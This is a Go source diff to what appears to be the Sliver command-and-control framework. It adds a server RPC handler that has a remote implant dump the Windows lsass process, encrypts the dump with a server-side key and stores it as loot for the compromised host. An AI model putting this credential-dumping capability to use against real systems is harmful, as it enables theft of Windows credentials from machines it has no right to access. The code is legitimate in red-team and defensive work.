@@ -20,9 +20,13 @@ package rpc
 
 import (
 	"context"
+	"crypto/rand"
 
+	consts "github.com/bishopfox/sliver/client/constants"
 	"github.com/bishopfox/sliver/protobuf/commonpb"
 	"github.com/bishopfox/sliver/protobuf/sliverpb"
+	"github.com/bishopfox/sliver/server/core"
+	"github.com/bishopfox/sliver/server/loot"
 )
 
 // Ps - List the processes on the remote machine
@@ -45,6 +49,36 @@ func (rpc *Server) ProcessDump(ctx context.Context, req *sliverpb.ProcessDumpReq
 	return resp, nil
 }
 
+// LsassDump - Dump lsass encrypted with a key only the server knows, the dump is
+// saved as loot of the host and never sent to the client, beacon dumps are saved
+// when the task result comes back
+func (rpc *Server) LsassDump(ctx context.Context, req *sliverpb.LsassDumpReq) (*sliverpb.LsassDump, error) {
+	req.Key = make([]byte, 32)
+	if _, err := rand.Read(req.Key); err != nil {
+		return nil, err
+	}
+	resp := &sliverpb.LsassDump{Response: &commonpb.Response{}}
+	err := rpc.GenericHandler(req, resp)
+	if err != nil {
+		return nil, err
+	}
+	if resp.Response.Async || resp.Response.Err != "" {
+		return resp, nil
+	}
+	session := core.Sessions.Get(req.Request.SessionID)
+	if session == nil {
+		return nil, ErrInvalidSessionID
+	}
+	_, err = loot.GetLootStore().SaveLsassDump(session.UUID, session.Hostname, req, resp)
+	if err != nil {
+		return nil, err
+	}
+	core.EventBroker.Publish(core.Event{
+		EventType: consts.LootAddedEvent,
+	})
+	return resp, nil
+}
+
 // Terminate - Terminate a remote process
 func (rpc *Server) Terminate(ctx context.Context, req *sliverpb.TerminateReq) (*sliverpb.Terminate, error) {
 	resp := &sliverpb.Terminate{Response: &commonpb.Response{}}